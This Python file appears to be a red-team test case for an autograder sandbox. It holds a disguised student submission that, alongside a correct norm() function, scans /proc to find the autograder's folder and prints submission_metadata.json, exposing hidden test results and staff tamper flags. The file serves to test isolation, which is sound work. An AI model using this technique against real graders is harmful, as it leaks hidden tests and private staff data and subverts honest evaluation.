"""Hostile (hidden verdicts): read the results of earlier submissions from the autograder's
own files.

Gradescope writes /autograder/submission_metadata.json before it runs the autograder: the
submitters, and `previous_submissions`, each with its whole results.json, hidden tests and
their output included, and the staff's `extra_data` (copy and tamper flags). In container
mode (the Gradescope zip's default) the worker has no mount namespace: it finds the
autograder's folder as /autograder, or from the grader's command line in /proc (`andrea-grade
<root>/submission ...`), reads the file and prints what students must not see. norm() is
correct. Found in the sixth red-team round: the file was readable by every uid.

Expected: the file is one of the grader's files in container mode, readable by root only
(run_autograder names it in ANDREA_PROTECT): nothing of it reaches the output; under
bubblewrap /autograder is not in the sandbox at all.
"""
import json
import os

import numpy as np


def _roots() -> list:
    found = ["/autograder"]
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids[:4096]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read(65536).split(b"\0")
        except OSError:
            continue
        for a in args:
            text = a.decode("utf-8", "replace")
            if text.endswith("/submission") and text.startswith("/"):
                found.append(os.path.dirname(text))
    return list(dict.fromkeys(found))


def _read() -> dict:
    seen = {"roots": [], "read": None, "error": None}
    for root in _roots():
        path = os.path.join(root, "submission_metadata.json")
        if not os.path.exists(path):
            continue
        seen["roots"].append(root)
        try:
            with open(path, encoding="utf-8") as f:
                seen["read"] = f.read(4000)
        except OSError as exc:
            seen["error"] = exc.strerror
    return seen


print("METADATA-REPORT " + json.dumps(_read()))


def norm(v):
    return float(np.sqrt(np.sum(np.asarray(v, dtype=np.float64) ** 2)))
